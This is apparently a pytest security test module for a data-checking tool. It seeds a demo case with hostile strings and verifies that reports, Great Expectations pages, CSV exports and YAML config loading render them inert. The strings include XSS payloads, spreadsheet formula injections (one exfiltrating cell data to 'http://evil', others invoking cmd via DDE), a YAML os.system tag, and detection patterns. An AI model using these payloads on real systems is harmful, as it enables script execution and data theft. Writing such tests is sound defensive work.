"""Hostile text in a case's data never becomes live markup, a formula, a fetch or a YAML object.

The synthetic case below is the demo case with injection payloads everywhere a person's
text goes: the article, fact and claim quotes, notes, reasons, exclusion reasons, the
provenance title, retrieval note and URLs, and the reference URLs. It validates with
`validate --docs`; then every page we write and every GX Data Docs page is parsed and
searched for markup the data brought in, and (marker `browser`) Chromium opens the case
report and the GX pages that show claim text, offline, to show that no injected script ran.
"""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from browserkit import chromium, command

from checks.cli import main
from checks.inputs.coverage import count_verbatim
from checks.output.results import CLAIMS_CSV_COLUMNS, claims_csv
from checks.pipeline import run_case
from checks.text.scan import number_tokens

REPO = Path(__file__).resolve().parents[2]
DEMO = REPO / "tests" / "data" / "cases"
CASE = "demo-cloud-results"

#: What a page that ran injected code would show: the title, and an attribute on <body>.
TITLE_MARK = "PWNED"
BODY_MARK = "pwned"
PAYLOAD = (
    "<script>alert(1)</script>"
    f"<script>document.title='{TITLE_MARK}'</script>"
    "<img src=x onerror=alert(1)>"
    f"<img src=x onerror=\"document.body.dataset.{BODY_MARK}='yes'\">"
    "\" onmouseover=\"x ' onmouseover='x "
    "[x](javascript:alert(1)) ![x](http://evil/x.png) "
    '<a href="javascript:alert(1)">y</a> javascript:alert(1)'
)
MARKERS = ("alert(1)", TITLE_MARK, BODY_MARK, "evil")
URLS = [
    "javascript:alert(1)",
    'https://example.com/a" onmouseover="alert(1)',
    "http://evil/x.png",
    "[x](javascript:alert(1))",
]
#: Reasons that a spreadsheet would run as formulas, one per dangerous first character.
FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
#: onclick handlers GX's own templates write (bootstrap_table.j2, page_action_card.j2).
GX_ONCLICK = re.compile(
    r"clearTableFilters\('[\w-]*'\)|showAllValidations\(\)|hideSucceededValidations\(\)"
)
DANGEROUS_URL = re.compile(r"^\s*(?:javascript|vbscript|data\s*:\s*text/html)", re.IGNORECASE)
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "background"}


# --- building the hostile case ------------------------------------------------------------


def _rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def _write(path: Path, columns: list[str], rows: list[dict[str, str]]) -> None:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def _unique_span(source: str, start: int, end: int) -> str:
    """Widen source[start:end] until it occurs once and has no edge whitespace (cells are stripped)."""
    while (
        count_verbatim(source, source[start:end]) != 1
        or source[start:end].strip() != source[start:end]
    ):
        start, end = max(0, start - 1), min(len(source), end + 1)
    return source[start:end]


def build_hostile_case(datasets: Path) -> Path:
    """Copy the demo case into `datasets` and put PAYLOAD into every free-text field."""
    shutil.copytree(DEMO, datasets)
    root = datasets / CASE
    anchor = "AI业务收入激增超1.5倍至2.6亿元"
    source = (root / "source.txt").read_text(encoding="utf-8").replace(anchor, anchor + PAYLOAD)
    (root / "source.txt").write_text(source, encoding="utf-8")
    hostile_quote = "至2.6亿元" + PAYLOAD

    columns, facts = _rows(root / "facts.csv")
    for row in facts:
        row["note"] = PAYLOAD
        if row["fact_id"] == "xl_ai_rev_h1":
            row["quote"] = hostile_quote
    _write(root / "facts.csv", columns, facts)

    columns, reference = _rows(root / "reference.csv")
    for row in reference:
        row["note"] = PAYLOAD
        row["source_url"] = (
            'https://example.com/x" onmouseover="alert(1)"><script>alert(1)</script>'
        )
    _write(root / "reference.csv", columns, reference)

    columns, claims = _rows(root / "claims.csv")
    for i, row in enumerate(claims):
        row["reason"] = FORMULAS[i] if i < len(FORMULAS) else f"{row['reason']} {PAYLOAD}"
        row["note"] = PAYLOAD
        if row["claim_id"] == "ai_revenue_growth_h1":
            row["quote"] = hostile_quote
    _write(root / "claims.csv", columns, claims)

    columns, excluded = _rows(root / "excluded.csv")
    for row in excluded:
        row["reason"] = PAYLOAD
    start = source.index(PAYLOAD)
    for token in number_tokens(source):
        if start <= token.start < start + len(PAYLOAD):  # the 1 of alert(1) is a number too
            quote = _unique_span(source, token.start, token.end)
            excluded.append({"token": token.text, "quote": quote, "reason": "markup " + PAYLOAD})
    _write(root / "excluded.csv", columns, excluded)

    provenance = json.loads((root / "provenance.json").read_text(encoding="utf-8"))
    provenance.update(
        title="星澜云" + PAYLOAD,
        language='zh" onmouseover="alert(1)',
        retrieved=PAYLOAD,
        note=PAYLOAD,
        urls=URLS,
        sha256=hashlib.sha256(source.encode("utf-8")).hexdigest(),
    )
    (root / "provenance.json").write_text(json.dumps(provenance, ensure_ascii=False), "utf-8")
    return datasets


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Validate the hostile case with docs; return the output folder."""
    base = tmp_path_factory.mktemp("hostile")
    datasets = build_hostile_case(base / "datasets")
    shutil.copytree(REPO / "gx", base / "root" / "gx")
    shutil.copytree(REPO / "expectations", base / "root" / "expectations")
    common = ["--datasets", str(datasets), "--root", str(base / "root"), "--case", CASE, "--quiet"]
    out, err = io.StringIO(), io.StringIO()
    assert main(["suites", *common], out, err) == 0, err.getvalue()
    code = main(["validate", "--docs", *common, "--out", str(base / "out")], out, err)
    assert code == 0, err.getvalue()
    return base / "out"


# --- looking for live markup --------------------------------------------------------------


@dataclasses.dataclass
class Markup:
    """What a page would run or fetch: its tags with attributes, inline scripts and text."""

    tags: list[tuple[str, list[tuple[str, str | None]]]] = dataclasses.field(default_factory=list)
    scripts: list[str] = dataclasses.field(default_factory=list)
    text: list[str] = dataclasses.field(default_factory=list)


class _Parser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found = Markup()
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.tags.append((tag, attrs))
        if tag == "script":
            self.in_script = True
            self.found.scripts.append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script:
            self.found.scripts[-1] += data
        else:
            self.found.text.append(data)


def markup(html: str) -> Markup:
    parser = _Parser()
    parser.feed(html)
    parser.close()
    return parser.found


def injected(html: str, allowed_onclick: re.Pattern[str] | None = None) -> list[str]:
    """List every piece of live markup in a page that the hostile data could have brought."""
    found = markup(html)
    bad = []
    for tag, attrs in found.tags:
        if tag in ("iframe", "object", "embed", "base", "frame"):
            bad.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and not (
                name == "onclick" and allowed_onclick and allowed_onclick.fullmatch(value)
            ):
                bad.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRS and DANGEROUS_URL.match(value):
                bad.append(f"<{tag} {name}={value!r}>")
            if (
                tag in ("img", "script", "link", "iframe")
                and name == "src"
                and (value == "x" or re.match(r"^\s*(?:[a-z]+:)?//", value, re.IGNORECASE))
            ):
                bad.append(f"<{tag} src={value!r}> loads from the data")
    for script in found.scripts:
        hits = [m for m in MARKERS if m in script]
        if hits:
            bad.append(f"<script> holding data {hits}: {script[:120]!r}")
    return bad


def test_the_scanner_finds_injected_markup() -> None:
    """The check itself: each payload, pasted raw into a page, is caught."""
    assert injected(f"<p>{PAYLOAD}</p>")
    assert injected('<a href=" javascript:alert(1)">x</a>')
    assert injected('<p title="" onmouseover="x">x</p>')
    assert injected('<img src="http://evil/x.png">')
    assert not injected('<p>&lt;script&gt;alert(1)&lt;/script&gt; " onmouseover="x</p>')


def test_the_case_validates_and_shows_the_payload_as_text(built: Path) -> None:
    page = (built / "docs" / CASE / "index.html").read_text(encoding="utf-8")
    text = "".join(markup(page).text)
    assert PAYLOAD in text  # shown to the reader, character for character
    for url in URLS:
        assert url in text


@pytest.mark.parametrize("page", ["index.html", f"{CASE}/index.html"])
def test_our_report_pages_hold_no_injected_markup(built: Path, page: str) -> None:
    html = (built / "docs" / page).read_text(encoding="utf-8")
    assert injected(html) == []
    assert "Content-Security-Policy" in html


def test_only_plain_http_urls_from_the_data_become_links(built: Path) -> None:
    found = markup((built / "docs" / CASE / "index.html").read_text(encoding="utf-8"))
    hrefs = [v or "" for tag, attrs in found.tags if tag == "a" for k, v in attrs if k == "href"]
    assert "http://evil/x.png" in hrefs  # a plain http URL is a link a reader may follow
    for href in hrefs:
        local = href.startswith("#") or re.fullmatch(r"[\w./-]+(?:#[\w-]*)?", href)
        web = re.fullmatch(r"https?://[^\s\"'<>`]+", href)
        assert local or web, href
    for url in (URLS[0], URLS[1], URLS[3]):  # javascript:, a quote-breaking URL, Markdown
        assert url not in hrefs


def test_gx_pages_hold_no_injected_markup(built: Path) -> None:
    pages = sorted((built / "docs" / "gx").rglob("*.html"))
    assert len(pages) >= 7  # index, the suites, the validations
    problems = {
        p.relative_to(built).as_posix(): got
        for p in pages
        if (got := injected(p.read_text(encoding="utf-8"), GX_ONCLICK))
    }
    assert problems == {}


def test_gx_pages_show_the_claim_text_neutralized(built: Path) -> None:
    """The quote and reason reach the GX pages as text (with ‹ › for < >), not dropped."""
    suite_page = (built / "docs" / "gx" / "expectations" / f"claims-{CASE}.html").read_text()
    (validation,) = (built / "docs" / "gx" / "validations" / f"claims-{CASE}").rglob("*.html")
    for html in (suite_page, validation.read_text(encoding="utf-8")):
        text = "".join(markup(html).text)
        assert "‹script›alert(1)‹/script›" in text
    # Markdown notes: mistune disarmed the javascript: link, checks.gx.docs the image.
    assert 'href="#harmful-link"' in suite_page
    assert '<code class="inert-url">![x](http://evil/x.png)</code>' in suite_page


def test_claim_suite_descriptions_and_notes_carry_no_angle_brackets(built: Path) -> None:
    """GX inserts `description` into HTML unescaped: checks/suites.py must neutralize it."""
    root = built.parent / "root"
    suite = json.loads((root / "expectations" / f"claims-{CASE}.json").read_text("utf-8"))
    hostile = [e for e in suite["expectations"] if "alert(1)" in e["description"] + e["notes"]]
    assert len(hostile) >= 4
    for e in suite["expectations"]:
        for field in ("description", "notes"):
            assert not set("<>&") & set(e[field]), (e["meta"], field, e[field])


# --- CSV exports ------------------------------------------------------------------------


def test_claims_csv_escapes_cells_a_spreadsheet_would_run(built: Path) -> None:
    data = (built / "results" / "claims.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets then read the Chinese
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == CLAIMS_CSV_COLUMNS
    body = rows[1:]
    assert len(body) == 2 * 7  # seven claims, two scenarios
    reasons = [r[CLAIMS_CSV_COLUMNS.index("reason")] for r in body]
    for formula in FORMULAS:
        assert reasons.count("'" + formula) == 2, formula
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_claims_csv_escapes_tab_and_carriage_return_and_keeps_plain_text() -> None:
    result = run_case(DEMO, CASE).result
    firsts = ["\tcmd", "\r=1", "plain", "－全角 is not a formula", "'quoted"]
    result = dataclasses.replace(
        result,
        claims=tuple(
            dataclasses.replace(claim, reason=firsts[i % len(firsts)])
            for i, claim in enumerate(result.claims)
        ),
    )
    rows = list(csv.reader(io.StringIO(claims_csv([result]), newline="")))[1:]
    got = [r[CLAIMS_CSV_COLUMNS.index("reason")] for r in rows[::2]]
    want = ["'\tcmd", "'\r=1", "plain", "－全角 is not a formula", "'quoted"]
    assert got == [want[i % len(want)] for i in range(len(result.claims))]


# --- YAML ---------------------------------------------------------------------------------

UNSAFE_YAML = re.compile(
    r"yaml\.(?:load|load_all|unsafe_load|full_load|full_load_all|unsafe_load_all)\s*\("
    r"|\bUnsafeLoader\b|\bFullLoader\b|yaml\.Loader\b|typ\s*=\s*[\"']unsafe[\"']"
    r"|\bimport\s+yaml\b|from\s+yaml\s+import|ruamel"
)


def test_the_project_code_loads_no_yaml_itself() -> None:
    """Only GX reads YAML (gx/great_expectations.yml, with ruamel's safe round-trip loader)."""
    found = [
        f"{path.relative_to(REPO)}:{n}: {line.strip()}"
        for path in sorted((REPO / "checks").rglob("*.py"))
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if UNSAFE_YAML.search(line)
    ]
    assert found == []


def test_gx_reads_its_config_with_ruamel_loaders_that_construct_no_objects() -> None:
    """GX 1.24.1 reads great_expectations.yml with ruamel's round-trip loader, fluent
    datasources with its safe loader: neither builds Python objects from tags."""
    from great_expectations.data_context.data_context import file_data_context
    from great_expectations.datasource.fluent import config as fluent_config

    assert file_data_context.yaml.typ == ["rt"]
    assert fluent_config.yaml.typ == ["safe"]


def test_a_python_tag_in_the_gx_config_is_refused_not_run(tmp_path: Path) -> None:
    (tmp_path / "gx").mkdir()
    marker = tmp_path / "ran"
    config = (REPO / "gx" / "great_expectations.yml").read_text(encoding="utf-8")
    tagged = f"plugins_directory: !!python/object/apply:os.system ['touch {marker}']"
    config = config.replace("\nplugins_directory:\n", f"\n{tagged}\n")
    assert tagged in config
    (tmp_path / "gx" / "great_expectations.yml").write_text(config, encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    argv = ["validate", "--quiet", "--datasets", str(DEMO), "--case", CASE]
    code = main([*argv, "--root", str(tmp_path), "--out", str(tmp_path / "out")], out, err)
    assert not marker.exists()
    assert code == 2
    assert "plugins_directory" in err.getvalue()
    assert "Traceback" not in err.getvalue()
    assert not (tmp_path / "out" / "results").exists()


# --- in a browser -------------------------------------------------------------------------


def _dump(url: str, profile: Path) -> str:
    try:
        done = subprocess.run(
            command(profile, "--virtual-time-budget=3000", "--dump-dom", url),
            capture_output=True,
            timeout=60,
            check=False,
        )
    except subprocess.TimeoutExpired:  # a headless alert() blocks --dump-dom for good
        pytest.fail(f"Chromium hung on {url}: did an injected alert() run?")
    assert done.returncode == 0, done.stderr.decode("utf-8", "replace")[-2000:]
    return done.stdout.decode("utf-8")


def _ran(dom: str) -> bool:
    """Tell whether the injected code ran: it sets the title or marks <body>."""
    title = re.search(r"<title>(.*?)</title>", dom, re.DOTALL)
    body = re.search(r"<body[^>]*>", dom)
    assert title is not None and body is not None
    return title.group(1).strip() == TITLE_MARK or f"data-{BODY_MARK}" in body.group(0)


@pytest.mark.browser
def test_no_injected_script_runs_in_chromium(built: Path, tmp_path: Path) -> None:
    chromium()  # skip (or fail in CI) when absent, as tests/test_browser.py does
    gx = built / "docs" / "gx"
    (validation,) = (gx / "validations" / f"claims-{CASE}").rglob("*.html")
    pages = {
        "report": built / "docs" / CASE / "index.html",
        "gx suite": gx / "expectations" / f"claims-{CASE}.html",
        "gx validation": validation,
    }
    control = tmp_path / "control.html"  # the payload pasted raw: the check must see it run
    raw = PAYLOAD.replace("alert(1)", "void 0")  # an alert would block --dump-dom
    control.write_text(f"<!DOCTYPE html><title>t</title><body><p>{raw}</p>", encoding="utf-8")
    assert _ran(_dump(control.as_uri(), tmp_path / "control"))
    for name, page in pages.items():
        dom = _dump(page.as_uri(), tmp_path / name.replace(" ", "-"))
        assert not _ran(dom), name
        assert "alert(1)" in dom, name  # the payload is on the page, as text
        if name == "report":
            assert 'class="js"' in dom  # our own inline script did run
        else:
            assert "collapse" in dom  # GX's own markup rendered
        assert injected(dom, GX_ONCLICK) == [], name
